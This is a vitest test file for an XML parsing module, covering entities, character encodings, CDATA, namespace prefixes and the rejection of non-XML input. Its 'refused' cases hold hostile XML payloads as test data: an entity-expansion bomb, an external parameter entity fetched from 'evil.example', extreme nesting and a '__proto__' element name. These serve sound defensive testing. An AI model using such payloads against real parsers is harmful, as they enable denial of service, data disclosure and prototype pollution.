/** XML as servers send it: what is read of it, and what is refused. */
import { describe, expect, test } from 'vitest';
import { childAt, textAt, xmlOf } from '../../src/sources/xml.ts';
import type { Answer } from '../../src/sources/ask.ts';

const answer = (body: string | Uint8Array, headers: Record<string, string> = {}, whole = true): Answer => ({
  url: 'https://city.example/doc',
  status: 200,
  headers: new Headers(headers),
  bytes: typeof body === 'string' ? new TextEncoder().encode(body) : body,
  whole,
});
const latin1 = (text: string) => Uint8Array.from(text, (letter) => letter.charCodeAt(0));
const utf16 = (text: string) =>
  Uint8Array.from([
    0xff,
    0xfe,
    ...[...text].flatMap((letter) => [letter.charCodeAt(0) & 255, letter.charCodeAt(0) >> 8]),
  ]);

test.each<[string, Answer]>([
  ['five entities and numbers, each once', answer('<a>&lt;b&gt; &amp;amp; &#228;&#xE9;</a>')],
  ['CDATA as it is', answer('<a>&lt;b&gt; <![CDATA[&amp; äé]]></a>')],
  ['a declared encoding', answer(latin1('<?xml version="1.0" encoding="ISO-8859-1"?><a>&lt;b&gt; &amp;amp; äé</a>'))],
  [
    'one of the media type',
    answer(latin1('<a>&lt;b&gt; &amp;amp; äé</a>'), { 'content-type': 'text/xml; charset=iso-8859-1' }),
  ],
  ['none that is told', answer(latin1('<a>&lt;b&gt; &amp;amp; äé</a>'))],
  [
    'UTF-8 that is declared as another',
    answer('<?xml version="1.0" encoding="ISO-8859-1"?><a>&lt;b&gt; &amp;amp; äé</a>'),
  ],
  ['UTF-16', answer(utf16('<a>&lt;b&gt; &amp;amp; äé</a>'))],
  [
    'a document type without entities',
    answer('<!DOCTYPE a SYSTEM "a.dtd" [<!ELEMENT a ANY>]><a>&lt;b&gt; &amp;amp; äé</a>'),
  ],
  ['a control character elsewhere', answer(`<a>&lt;b&gt; &amp;amp; äé<c>\b${' '.repeat(100)}</c></a>`)],
  ['a cut', answer('<a>&lt;b&gt; &amp;amp; äé<c><d at="', {}, false)],
])('%s', (_, given) => expect(xmlOf(given).text).toBe('<b> &amp; äé'));

test('entities that nobody declared stay as they are', () =>
  expect(xmlOf(answer('<a>&nbsp;&x;</a>')).text).toBe('&nbsp;&x;'));

test('names have no prefixes', () => {
  const root = xmlOf(answer('<n:a xmlns:n="urn:x"><n:b m:at="1 &amp; 2"><c> text </c></n:b></n:a>'));
  expect([root.name, childAt(root, 'b')?.attributes, textAt(root, 'b', 'c')]).toEqual(['a', { at: '1 & 2' }, 'text']);
});

const laughs = '<!ENTITY b "&a;&a;">';
describe('refused', () => {
  test.each<[string, string, RegExp]>([
    [
      'entities',
      `<?xml version="1.0"?><!-- x --><!DOCTYPE a [<!ENTITY a "ha">${laughs}]><a>&b;</a>`,
      /declares entities/,
    ],
    [
      'entities of a parameter',
      '<!DOCTYPE a [<!ENTITY % p SYSTEM "https://evil.example/x"> %p;]><a/>',
      /declares entities/,
    ],
    ['nesting without end', '<a>'.repeat(5000), /not well-formed/],
    ['a name that objects have', '<a><__proto__/></a>', /not well-formed/],
    ['two roots', '<a/><b/>', /one root/],
    ['HTML', '<!doctype html><p>Hello', /HTML, not XML/],
    ['HTML as XML', '<?xml version="1.0"?>\n<html><body/></html>', /HTML, not XML/],
    ['JSON', '{"a":1}', /JSON, not XML/],
    ['text', 'Hello', /text, not XML/],
  ])('%s', (_, text, message) => expect(() => xmlOf(answer(text))).toThrow(message));
});
